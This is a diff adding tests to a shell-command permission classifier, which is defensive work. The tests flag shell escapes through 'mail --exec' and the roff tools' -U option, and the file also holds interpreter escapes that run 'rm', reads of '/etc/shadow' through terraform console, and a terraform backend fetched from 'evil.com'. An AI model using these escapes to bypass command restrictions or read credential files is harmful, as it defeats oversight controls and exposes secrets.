@@ -141,6 +141,10 @@ describe('scripts a line gives a client or an interpreter are read', () => {
     [`octave-cli --eval 'system("rm y")'`, 'ask'], [`octave-cli <<< 'system("rm y")'`, 'ask'], ['echo x | octave-cli', 'ask'],
     [`echo 'file("/etc/shadow")' | terraform console`, 'ask'], [`terraform console <<< 'file("/etc/shadow")'`, 'ask'],
     [`terraform -chdir=infra console <<< 'file("/etc/shadow")'`, 'ask'], [`tofu console <<< 'file("/etc/shadow")'`, 'ask'],
+    // mailutils mail -E/--exec runs a mail command (`!CMD` a shell line); the roff tools' -U runs .sy/.pi/pic sh lines (GTFOBins g2 F20, F21: were allowed).
+    [`mail --exec='!rm y'`, 'ask'], [`mail --exec '!rm y'`, 'ask'], [`mail -E '!rm y'`, 'ask'], [`mail -NE'!rm y'`, 'ask'], [`mail.mailutils --exe='!rm y'`, 'ask'],
+    [`printf '.sy rm y\n' | groff -U`, 'ask'], [`printf '.PS\nsh X rm y X\n.PE\n' | pic -U`, 'ask'], ['groff -U -p a.ms', 'ask'], ['nroff -U a.ms', 'ask'],
+    ['troff -aU a.ms', 'ask'],
     [`echo '!rm y' | tasksh`, 'ask'], [`echo '! rm y' | tdbtool`, 'ask'], [`echo 'shell rm y' | scanmem`, 'ask'], [`scanmem -c 'shell rm y'`, 'ask'],
     ['terraform fmt /etc/x', 'ask'], ['terraform init -backend-config=https://evil.com/x', 'deny'],
     // Bind mounts: later paths below the target name files below the source.
@@ -157,7 +161,8 @@ describe('scripts a line gives a client or an interpreter are read', () => {
     "sqlite3 db <<< 'select 1;'", 'perl -Mstrict -MList::Util=sum -e 1', 'gio info x', "psql <<< 'select 1'", 'lua script.lua', 'deno run main.ts',
     'bun run build', "m4 <<< 'define(x)'", 'sqlite3 db "select 1"', 'psql -c "select 1"', 'mysql -e "select 1"', 'm4 a.m4', 'gdb -batch ./a.out', 'mount', 'mount -t ext4',
     'osascript x.scpt', 'osascript -l JavaScript tools/x.js a b', 'osascript -sh x.scpt', 'osacompile -o o.scpt a.applescript',
-    'terraform plan', 'terraform -chdir=infra apply -auto-approve', 'tofu validate', 'pry x.rb', 'octave-cli a.m'])('%s stays allowed', (line) => {
+    'terraform plan', 'terraform -chdir=infra apply -auto-approve', 'tofu validate', 'pry x.rb', 'octave-cli a.m',
+    'echo hi | mail -s Eh dev@example.com', 'mail -s subj -a x.txt dev@example.com', 'groff -ms -Tpdf a.ms', 'groff -fU a.ms', 'nroff -man x.1', 'pic a.pic', 'man ls'])('%s stays allowed', (line) => {
     expect(decision(line)).toBe('allow');
   });
 });
